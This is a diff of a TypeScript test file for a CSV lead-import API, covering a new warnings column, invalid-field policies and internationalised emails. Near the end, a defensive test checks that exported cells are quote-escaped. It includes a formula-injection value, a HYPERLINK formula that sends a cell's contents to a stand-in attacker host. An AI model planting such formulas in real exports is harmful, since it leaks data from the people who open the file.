@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { expectError } from '../support/assert.js';
 import { outboxFor } from '../support/events.js';
-import { describeEachDialect } from '../support/harness.js';
+import { describeEachDialect, type Client } from '../support/harness.js';
 import { allLeads, csvLine, importCsv, importPhone, postCsv, settled } from './support.js';
 
 const byPhone = async (client: Parameters<typeof allLeads>[0], phones: string[]) => {
@@ -49,23 +49,67 @@ describeEachDialect('POST /v1/imports', (ctx) => {
         ['NoAddress', '', '', '', 'y'],
         ['BadPhone', '12', '', '', 'z'],
         ['BadEmail', '', 'not-an-email', '', 'w'],
-        ['BadZone', importPhone(), '', 'Mars/Olympus', 'v'],
+        ['BadPhoneBadEmail', '12', 'not-an-email', '', 'u'],
       ];
       const done = await importCsv(acme, [csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']), ...rows.map((r) => csvLine(r))].join('\n'));
-      expect(done).toMatchObject({ status: 'completed', total: 6, created: 1, rejected: 5 });
+      expect(done).toMatchObject({ status: 'completed', total: 6, created: 1, rejected: 5, warned: 0, options: { invalidFields: 'drop' } });
       const res = await acme.get(`/imports/${done.id}/rejects`);
       expect(res.status).toBe(200);
       expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
       const lines = (res.body as string).trimEnd().split('\r\n');
-      expect(lines[0]).toBe('First Name,Phone,Email,tz,Note,reason');
+      expect(lines[0]).toBe('First Name,Phone,Email,tz,Note,reason,warnings');
       expect(lines.slice(1)).toEqual([
         // A phone number starts with + and is written behind a quote, as any cell a spreadsheet would run.
-        `,'${rows[1]![1]},,,no first name,firstName is missing (every lead needs a first name)`,
-        'NoAddress,,,,y,the row has neither a phone nor an email (a lead needs one of them)',
-        'BadPhone,12,,,z,"phone ""12"" is not a valid phone number"',
-        'BadEmail,,not-an-email,,w,"email ""not-an-email"" is not a valid email address"',
-        `BadZone,'${rows[5]![1]},,Mars/Olympus,v,"timeZone ""Mars/Olympus"" is not a known IANA time zone (like America/Chicago)"`,
+        `,'${rows[1]![1]},,,no first name,firstName is missing (every lead needs a first name),`,
+        'NoAddress,,,,y,the row has neither a phone nor an email (a lead needs one of them),',
+        'BadPhone,12,,,z,"phone ""12"" is not a valid phone number",',
+        'BadEmail,,not-an-email,,w,"email ""not-an-email"" is not a valid email address",',
+        // Neither address is usable: the row is rejected on the first, whatever the policy.
+        'BadPhoneBadEmail,12,not-an-email,,u,"phone ""12"" is not a valid phone number",',
       ]);
+    });
+
+    const searched = async (client: Client, email: string) => (await client.get(`/leads?search=${encodeURIComponent(email)}`)).body.leads;
+
+    it('imports a lead whose one bad field it can leave out, lists the row with a warning, and rejects it under invalidFields=reject', async () => {
+      const { acme } = ctx();
+      const [p1, p2, p3] = [importPhone(), importPhone(), importPhone()];
+      const mail = `m${p3.slice(-7)}@mail.example.com`;
+      const rows = [
+        ['BadEmail', p1, 'not-an-email', '', 'a'],
+        ['BadZone', p2, '', 'Mars/Olympus', 'b'],
+        ['BadPhone', '12', mail, '', 'c'],
+      ];
+      const csv = [csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']), ...rows.map((r) => csvLine(r))].join('\n');
+      const done = await importCsv(acme, csv);
+      expect(done).toMatchObject({ status: 'completed', total: 3, created: 3, rejected: 0, warned: 3 });
+      const lines = ((await acme.get(`/imports/${done.id}/rejects`)).body as string).trimEnd().split('\r\n');
+      expect(lines).toEqual([
+        'First Name,Phone,Email,tz,Note,reason,warnings',
+        `BadEmail,'${p1},not-an-email,,a,,"email ""not-an-email"" is not a valid email address: imported without it"`,
+        `BadZone,'${p2},,Mars/Olympus,b,,"timeZone ""Mars/Olympus"" is not a known IANA time zone (like America/Chicago): imported without it"`,
+        `BadPhone,12,${mail},,c,,"phone ""12"" is not a valid phone number: imported without it"`,
+      ]);
+      const found = await acme.get(`/leads/lookup?phone=${encodeURIComponent(p1)}`);
+      expect(found.status).toBe(200);
+      expect((await acme.get(`/leads/${found.body.id}`)).body).toMatchObject({ firstName: 'BadEmail', email: null });
+      expect(await searched(acme, mail)).toMatchObject([{ firstName: 'BadPhone', phone: null }]);
+
+      const strict = [csvLine(['First Name', 'Phone', 'Email', 'tz', 'Note']), csvLine(['Strict', importPhone(), 'not-an-email', '', 'd'])].join('\n');
+      const refused = await importCsv(acme, strict, { invalidFields: 'reject' });
+      expect(refused).toMatchObject({ status: 'completed', total: 1, created: 0, rejected: 1, warned: 0, options: { invalidFields: 'reject' } });
+    });
+
+    it('takes internationalised email addresses (RFC 6531), as the API create does', async () => {
+      const { acme } = ctx();
+      const phone = importPhone();
+      const mail = `zoë.clark${phone.slice(-6)}@mail.example.com`;
+      const done = await importCsv(acme, [csvLine(['First Name', 'Phone', 'Email']), csvLine(['Zoë', phone, mail])].join('\n'));
+      expect(done).toMatchObject({ status: 'completed', created: 1, rejected: 0, warned: 0 });
+      expect(await searched(acme, mail)).toMatchObject([{ firstName: 'Zoë', email: mail }]);
+      const viaApi = await acme.post('/leads/create', { firstName: 'Zoë', email: `ユーザー${phone.slice(-6)}@例え.jp` });
+      expect(viaApi.status).toBe(200);
+      expect((await acme.post('/leads/create', { firstName: 'No', email: 'zoë@@mail.example.com' })).status).toBe(400);
     });
 
     it('keeps the reason under its name in the rejects file when a row has more or fewer values than the header', async () => {
@@ -76,9 +120,9 @@ describeEachDialect('POST /v1/imports', (ctx) => {
       const lines = ((await acme.get(`/imports/${done.id}/rejects`)).body as string).trimEnd().split('\r\n');
       const reason = '"phone ""12"" is not a valid phone number"';
       expect(lines).toEqual([
-        'First Name,Phone,Note,reason',
-        'Extra,12,n,the row has 5 values but the header has 3 columns,surplus one,surplus two',
-        `Short,12,,${reason}`,
+        'First Name,Phone,Note,reason,warnings',
+        'Extra,12,n,the row has 5 values but the header has 3 columns,,surplus one,surplus two',
+        `Short,12,,${reason},`,
       ]);
     });
 
@@ -93,9 +137,9 @@ describeEachDialect('POST /v1/imports', (ctx) => {
       const res = await acme.get(`/imports/${done.id}/rejects`);
       expect(res.status).toBe(200);
       expect((res.body as string).split('\r\n')).toEqual([
-        'First Name,Phone,Note,Other,Tab,reason',
-        `"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 12,'@SUM(A1:A9),'-2+3,"'\tcmd","phone ""+1 12"" is not a valid phone number"`,
-        `'+Ann,12,plain,"'\r=1",x,"phone ""12"" is not a valid phone number"`,
+        'First Name,Phone,Note,Other,Tab,reason,warnings',
+        `"'=HYPERLINK(""http://evil.example/?""&A1)",'+1 12,'@SUM(A1:A9),'-2+3,"'\tcmd","phone ""+1 12"" is not a valid phone number",`,
+        `'+Ann,12,plain,"'\r=1",x,"phone ""12"" is not a valid phone number",`,
         '',
       ]);
       // A phone number written behind the quote imports as it is again (docs/imports.md).
